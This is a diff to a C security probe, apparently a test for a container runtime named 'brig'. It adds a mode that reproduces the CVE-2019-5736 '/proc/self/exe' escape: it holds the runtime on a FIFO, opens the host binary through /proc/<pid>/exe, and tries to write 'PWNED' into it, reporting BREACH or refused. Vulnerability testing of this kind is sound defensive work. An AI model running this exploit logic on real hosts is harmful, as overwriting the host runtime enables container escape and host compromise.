@@ -12,6 +12,14 @@
  *   escape-probe trace SECONDS
  *     CVE-2016-9962: ptrace (PTRACE_SEIZE) every brig process that shows
  *     up, and list its /proc/<pid>/fd.
+ *   escape-probe gate FIFO DEV INO SECONDS
+ *     CVE-2019-5736 through "#!/proc/self/exe": a script whose interpreter
+ *     line is "#!/proc/self/exe --log=FIFO" holds whatever runs as its
+ *     interpreter (brig's --log opens the FIFO) until this probe has opened
+ *     /proc/<pid>/exe of every process whose command line names FIFO
+ *     (BREACH if it is the host file DEV:INO); then it opens the FIFO to
+ *     let it go, and tries to write through every exe it kept, while and
+ *     after it runs (BREACH if a write lands anywhere).
  * A brig process is one whose argv[0] contains "brig". */
 #include <dirent.h>
 #include <errno.h>
@@ -226,6 +234,113 @@ static int mode_trace(double seconds) {
   return 0;
 }
 
+/* ---- gate ---- */
+
+/* Whether pid's whole command line contains name. */
+static int cmdline_names(int pid, const char *name) {
+  char path[64], buf[1024];
+  ssize_t n;
+  int fd;
+
+  snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+  fd = open(path, O_RDONLY | O_CLOEXEC);
+  if (fd < 0)
+    return 0;
+  n = read(fd, buf, sizeof(buf) - 1);
+  close(fd);
+  if (n <= 0)
+    return 0;
+  for (ssize_t i = 0; i < n; i++)
+    if (buf[i] == '\0')
+      buf[i] = ' ';
+  buf[n] = '\0';
+  return strstr(buf, name) != NULL;
+}
+
+struct gate_ctx {
+  const char *name;
+  dev_t dev;
+  ino_t ino;
+  int kept[MAX_KEPT];
+  int n_kept;
+  struct seen seen;
+};
+
+static void try_gate(int pid, void *data) {
+  struct gate_ctx *c = data;
+  char path[64], target[256] = "";
+  struct stat st;
+  ssize_t n;
+  int fd;
+
+  if (!cmdline_names(pid, c->name) || !seen_once(&c->seen, pid))
+    return;
+  snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+  n = readlink(path, target, sizeof(target) - 1);
+  if (n > 0)
+    target[n] = '\0';
+  printf("seen interpreter pid %d exe %s\n", pid, target);
+  fd = open(path, O_PATH | O_CLOEXEC);
+  if (fd < 0) {
+    printf("refused open %s: %s\n", path, strerror(errno));
+    return;
+  }
+  if (fstat(fd, &st) == 0 && st.st_dev == c->dev && st.st_ino == c->ino)
+    printf("BREACH opened the host's brig through %s\n", path);
+  else
+    printf("refused %s is not the host's brig\n", path);
+  if (c->n_kept < MAX_KEPT)
+    c->kept[c->n_kept++] = fd;
+  else
+    close(fd);
+}
+
+static int mode_gate(const char *fifo, dev_t dev, ino_t ino, double seconds) {
+  struct gate_ctx c = {.name = fifo, .dev = dev, .ino = ino};
+  int last_errno[MAX_KEPT] = {0}, written[MAX_KEPT] = {0};
+  double end = now() + seconds;
+  int gate = -1;
+
+  while (now() < end) {
+    char buf[512];
+    each_pid(try_gate, &c);
+    /* Let it go only once it has been tried. */
+    if (gate < 0 && c.seen.n > 0) {
+      gate = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+      printf("released %s\n", gate >= 0 ? "the gate" : strerror(errno));
+    }
+    while (gate >= 0 && read(gate, buf, sizeof(buf)) > 0)
+      ;
+    for (int i = 0; i < c.n_kept; i++) {
+      char path[64];
+      int w, e = 0;
+      if (written[i])
+        continue;
+      snprintf(path, sizeof(path), "/proc/self/fd/%d", c.kept[i]);
+      w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+      if (w < 0) {
+        e = errno;
+      } else if (write(w, "PWNED\n", 6) == 6) {
+        printf("BREACH wrote to the exe kept as fd %d\n", c.kept[i]);
+        written[i] = 1;
+      } else {
+        e = errno;
+      }
+      if (w >= 0)
+        close(w);
+      if (e != 0 && e != last_errno[i]) {
+        printf("refused write to the exe kept as fd %d: %s\n", c.kept[i],
+               strerror(e));
+        last_errno[i] = e;
+      }
+    }
+    fflush(stdout);
+    pause_ms(2);
+  }
+  printf("done\n");
+  return 0;
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   if (argc == 5 && strcmp(argv[1], "exe") == 0)
@@ -233,6 +348,10 @@ int main(int argc, char **argv) {
                     (ino_t)strtoull(argv[3], NULL, 0), atof(argv[4]));
   if (argc == 3 && strcmp(argv[1], "trace") == 0)
     return mode_trace(atof(argv[2]));
-  fprintf(stderr, "usage: escape-probe exe DEV INO SECONDS | trace SECONDS\n");
+  if (argc == 6 && strcmp(argv[1], "gate") == 0)
+    return mode_gate(argv[2], (dev_t)strtoull(argv[3], NULL, 0),
+                     (ino_t)strtoull(argv[4], NULL, 0), atof(argv[5]));
+  fprintf(stderr, "usage: escape-probe exe DEV INO SECONDS | trace SECONDS | "
+                  "gate FIFO DEV INO SECONDS\n");
   return 2;
 }
